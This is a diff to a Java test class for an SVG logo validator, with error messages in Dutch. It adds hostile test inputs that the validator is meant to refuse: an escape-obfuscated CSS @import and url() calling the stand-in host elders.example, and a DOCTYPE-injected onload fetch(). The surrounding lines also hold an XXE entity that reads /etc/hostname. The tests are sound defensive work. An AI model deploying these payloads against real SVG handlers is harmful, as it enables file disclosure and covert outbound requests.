@@ -68,6 +68,7 @@ class LogoCheckTest {
             <svg><style>a{background:image-set("//elders.example/a.png" 1x)}</style></svg>    | url()
             <svg><style>a{background:url(data:image/svg+xml,x)}</style></svg>                 | url()
             <svg><use href='a.svg#b'/></svg>                                                  | href
+            <svg><style>@\\69mport "//elders.example/imp.css"; rect{fill:u\\72l(//elders.example/f)}</style></svg> | url()
             """)
     void aDrawingThatRunsOrFetchesIsRefused(String xml, String what) {
         assertEquals("3:7 error logo-does-more: het logo \"logo.svg\" is meer dan een tekening: er staat " + what + " in"
@@ -78,6 +79,7 @@ class LogoCheckTest {
     /** It could name a file, or grow without end. */
     @ParameterizedTest
     @ValueSource(strings = {"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>",
+            "<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"fetch('//elders.example')\">]><svg/>",
             "<!DOCTYPE svg [<!ENTITY buiten SYSTEM \"file:///etc/hostname\">]><svg>&buiten;</svg>"})
     void aDrawingHasNoDoctype(String xml) {
         assertEquals("3:7 error logo-with-doctype: het logo \"logo.svg\" begint met een DOCTYPE, en daarin kan staan wat een bestand van"
